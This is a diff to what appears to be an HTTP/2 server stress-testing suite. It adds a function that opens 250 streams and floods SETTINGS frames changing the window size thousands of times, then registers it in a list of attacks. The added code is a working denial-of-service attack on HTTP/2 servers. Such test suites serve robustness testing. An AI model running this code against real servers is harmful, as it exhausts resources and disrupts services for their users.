@@ -360,6 +360,16 @@ def flood_of_windows(victim: Victim) -> None:
             client.listen()
 
 
+def settings_of_many_streams(victim: Victim) -> None:
+    """SETTINGS frames that change the window of 250 streams 2,700 times each."""
+    with victim.http2() as client:
+        client.socket.sendall(b"".join(client.headers(method="POST", end=False) for _ in range(250)))
+        change = b"\0\4\0\0\0\5" + b"\0\4\0\0\0\6"
+        while not client.over:
+            client.socket.sendall(frame(Kind.SETTINGS, 0, 0, change * 1350) * 5)
+            client.listen()
+
+
 def _length(number: int, huffman: int = 0x80) -> bytes:
     """Length of a string in HPACK's encoding."""
     out = bytearray([huffman | 0x7F])
@@ -386,4 +396,5 @@ ATTACKS: tuple[Callable[[Victim], None], ...] = (
     long_methods,
     large_headers_that_are_parsed,
     flood_of_windows,
+    settings_of_many_streams,
 )
